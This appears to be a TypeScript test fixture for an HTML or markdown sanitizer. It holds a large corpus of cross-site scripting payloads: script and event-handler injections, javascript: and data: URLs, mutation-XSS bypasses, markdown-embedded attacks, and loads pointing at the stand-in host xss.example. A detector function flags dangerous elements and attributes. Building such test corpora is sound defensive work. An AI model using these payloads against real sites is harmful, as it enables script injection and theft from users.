/**
 * T29: ways in which a text has tried to become a program, by class, after OWASP's filter evasion cheat sheet, DOMPurify's own tests and published mutation attacks; written down anew. Each one
 * would call `xss()` or reach `xss.example`.
 */
const act = 'xss()'
const far = 'https://xss.example/'

const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onanimationstart',
  'onpointerrawupdate',
  'onbeforetoggle',
]
const carriers = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'details open',
  'input autofocus',
  'marquee',
  'iframe',
  'object',
  'select autofocus',
  'textarea autofocus',
  'button popovertarget=x',
  'x',
]

const attributes = carriers.flatMap((carrier, i) => {
  const on = handlers[i % handlers.length] ?? 'onerror'
  return [`<${carrier} ${on}=${act}>`, `<${carrier} ${on.toUpperCase()} = "${act}">`, `<${carrier}/${on}='${act}'/>`]
})

const scripts = [
  `<script>${act}</script>`,
  `<ScRiPt>${act}</sCrIpT>`,
  `<script src=${far}></script>`,
  `<script\u0000>${act}</script>`,
  `<<script>${act}//<</script>`,
  `<script>${act}`,
  `<script type=module>import '${far}'</script>`,
  `<script type=importmap>{"imports":{"x":"${far}"}}</script>`,
  `<svg><script>${act}</script></svg>`,
  `<svg><script href="${far}"/></svg>`,
  `<math><script>${act}</script></math>`,
  `<template><script>${act}</script></template>`,
  `<noscript><p title="</noscript><script>${act}</script>"></noscript>`,
  `<textarea></textarea><script>${act}</script>`,
  `<title></title><script>${act}</script>`,
  `<!--<script>-->${act}<!--</script>-->`,
  `<![CDATA[<script>${act}</script>]]>`,
  `<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">${act}</script>`,
  `"><script>${act}</script>`,
  `'><script>${act}</script>`,
  `--><script>${act}</script>`,
  `</textarea></title></style></noscript><script>${act}</script>`,
]

const addresses = [
  `javascript:${act}`,
  `JaVaScRiPt:${act}`,
  `java\tscript:${act}`,
  `java\nscript:${act}`,
  `\u0001javascript:${act}`,
  ` javascript:${act}`,
  `javascript&colon;${act}`,
  `&#106;avascript:${act}`,
  `&#x6A&#x61&#x76&#x61script:${act}`,
  `%6Aavascript:${act}`,
  `vbscript:${act}`,
  `livescript:${act}`,
  `data:text/html,<script>${act}</script>`,
  'data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==',
  `data:image/svg+xml,<svg onload=${act}>`,
  `view-source:javascript:${act}`,
  `feed:javascript:${act}`,
  `blob:${far}x`,
  'file:///etc/passwd',
  'package://x/',
  'app://artel/',
  `//xss.example/`,
]
const links = addresses.flatMap((address) => [
  `[words](${address})`,
  `[words](<${address}>)`,
  `![words](${address})`,
  `<${address}>`,
  `<a href="${address}">words</a>`,
  `<form action="${address}"><button>words</button></form>`,
  `[words][ref]\n\n[ref]: ${address}`,
])

const reaches = [
  `<link rel=stylesheet href=${far}>`,
  `<link rel=prefetch href=${far}>`,
  `<link rel=dns-prefetch href=//xss.example>`,
  `<style>@import '${far}';</style>`,
  `<style>*{background:url(${far})}</style>`,
  `<p style="background:url(${far})">words</p>`,
  `<p style="behavior:url(${far})">words</p>`,
  `<img src=${far}>`,
  `<img srcset="${far} 2x">`,
  `<picture><source srcset=${far}><img></picture>`,
  `<video poster=${far}></video>`,
  `<audio src=${far}></audio>`,
  `<iframe src=${far}></iframe>`,
  `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  `<object data=${far}></object>`,
  `<embed src=${far}>`,
  `<applet code=x codebase=${far}></applet>`,
  `<base href=${far}>`,
  `<meta http-equiv=refresh content="0;url=${far}">`,
  `<meta http-equiv=Content-Security-Policy content="default-src *">`,
  `<table background=${far}><tr><td>words</td></tr></table>`,
  `<input type=image src=${far}>`,
  `<svg><image href=${far} /></svg>`,
  `<svg><use href="${far}#x"/></svg>`,
  `<svg><feImage href=${far} /></svg>`,
  `<a ping=${far} href=#>words</a>`,
  `![words](${far}pixel.gif)`,
  `![words](${far}pixel.gif "title")`,
]

const mutations = [
  `<svg></p><style><a id="</style><img src=1 onerror=${act}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${act}&gt;">`,
  `<math><mtext><table><mglyph><style><math><table><img src onerror=${act}></style></mglyph></table>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${act}>`,
  `<svg><foreignobject><p><style><!--</style><a title="--><img src onerror=${act}>"></foreignobject></svg>`,
  `<noscript><style></noscript><img src=x onerror=${act}></style>`,
  `<select><template><style><!--</style><a rel="--><img src onerror=${act}>"></template></select>`,
  `<img alt="<x" title="/><img src onerror=${act}>">`,
  `<svg><animate xlink:href=#x attributeName=href values="javascript:${act}"/><a id=x><text y=20>words</text></a></svg>`,
  `<svg><set attributeName=onmouseover to=${act}></svg>`,
  `<a href="java&#9;script:${act}">words</a>`,
  `<div id="getElementById"><input name="attributes"><input name="parentNode"></div>`,
  `<form id=x><input name=nodeName></form><a id=document><a id=document name=cookie>`,
  `<xss style="x:expression(${act})">words</xss>`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${act}</x:script>`,
]

const inMarkdown = [
  `<details><summary>words</summary><img src=x onerror=${act}></details>`,
  `\`<script>${act}</script>\``,
  `\`\`\`html\n<script>${act}</script>\n\`\`\``,
  `    <script>${act}</script>`,
  `| a |\n|---|\n| <img src=x onerror=${act}> |`,
  `- <svg onload=${act}>`,
  `> <svg onload=${act}>`,
  `words[^x]\n\n[^x]: <img src=x onerror=${act}>`,
  `words[^"onclick=${act}]\n\n[^"onclick=${act}]: note`,
  `[a](https://a.example "x\\" onmouseover=\\"${act}")`,
  `![a](file:x "x\\" onload=\\"${act}")`,
  `[a](<https://a.example" onclick="${act}>)`,
  `https://a.example/"onmouseover="${act}"`,
  `www.a.example/"onmouseover="${act}"`,
  `<https://a.example/onmouseover=${act}>`,
  `# <img src=x onerror=${act}>`,
  `**<img src=x onerror=${act}>**`,
  `&lt;script&gt;${act}&lt;/script&gt;`,
  `\\<script>${act}\\</script>`,
  `[words](article:x"onclick=${act})`,
  `[words](artel://x/${act})`,
]

export const xssCorpus: readonly string[] = [
  ...scripts,
  ...attributes,
  ...links,
  ...reaches,
  ...mutations,
  ...inMarkdown,
]

/** What of a tree could run or reach out, in words; empty when nothing can. */
export function dangersIn(root: ParentNode): readonly string[] {
  const found: string[] = []
  for (const element of root.querySelectorAll('*')) {
    if (
      /^(?:script|iframe|object|embed|applet|base|meta|link|style|form|template|noscript|frame|frameset)$/i.test(
        element.localName,
      )
    )
      found.push(element.localName)
    for (const { name, value } of element.attributes) {
      if (/^on/i.test(name)) found.push(`${element.localName}[${name}]`)
      if (/^(?:srcdoc|style|background|poster|ping|srcset|formaction|action)$/i.test(name))
        found.push(`${element.localName}[${name}]`)
      if (/^(?:href|src|xlink:href)$/i.test(name) && !/^(?:https:\/\/|mailto:|#)/i.test(value))
        found.push(`${element.localName}[${name}=${value}]`)
      if (name === 'src' && /^https?:/i.test(value)) found.push(`${element.localName}[src=${value}]`)
    }
  }
  return found
}
